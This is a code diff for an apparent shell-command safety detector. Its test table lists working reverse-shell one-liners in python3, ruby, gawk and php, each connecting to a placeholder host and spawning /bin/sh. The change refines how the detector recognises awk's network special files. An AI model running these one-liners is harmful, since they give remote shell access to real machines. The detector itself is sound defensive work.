@@ -80,7 +80,7 @@ func reverseShells() table {
 				`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));subprocess.call(["/bin/sh","-i"])'`, `ruby -rsocket -e 'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)'`,
 				`gawk 'BEGIN { while ("/inet/tcp/0/x.example/80" |& getline line) system(line) }'`, `php -r '$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3");'`,
 			},
-			Passes: []string{`python3 -c 'print(1)'`, "awk '{print $1}' f", `python3 -c 'import urllib.request as u; print(u.urlopen("http://localhost").status)'`},
+			Passes: []string{`python3 -c 'print(1)'`, "awk '{print $1}' f", "ip addr | awk '/inet/ {print $2}'", `python3 -c 'import urllib.request as u; print(u.urlopen("http://localhost").status)'`},
 		},
 	}
 }
@@ -315,9 +315,25 @@ func opens(c *ctx, i int) (span, bool) {
 // codeShell holds for program text that both connects and starts programs, or joins awk to the network.
 func codeShell(c *ctx, i int) (span, bool) {
 	p := c.payload(i)
-	if p.Lang == code.Awk && (strings.Contains(p.Text.Text, "/inet/") || strings.Contains(p.Text.Text, "/inet4/")) {
+	if p.Lang == code.Awk && awkConnects(p.Text.Text) {
 		return at(p.Text), true
 	}
 	e := p.Report.Effects
 	return at(p.Text), p.File == "" && e&code.Connect != 0 && e&code.Spawn != 0
+}
+
+// awkConnects tells whether awk's text names one of its special files for connections.
+func awkConnects(text string) bool {
+	for _, s := range [...]string{"/inet/", "/inet4/", "/inet6/"} {
+		for rest := text; ; {
+			n := strings.Index(rest, s)
+			if n < 0 {
+				break
+			}
+			if rest = rest[n+len(s):]; strings.HasPrefix(rest, "tcp/") || strings.HasPrefix(rest, "udp/") || rest == "" || rest[0] == '"' || rest[0] == 0 {
+				return true
+			}
+		}
+	}
+	return false
 }
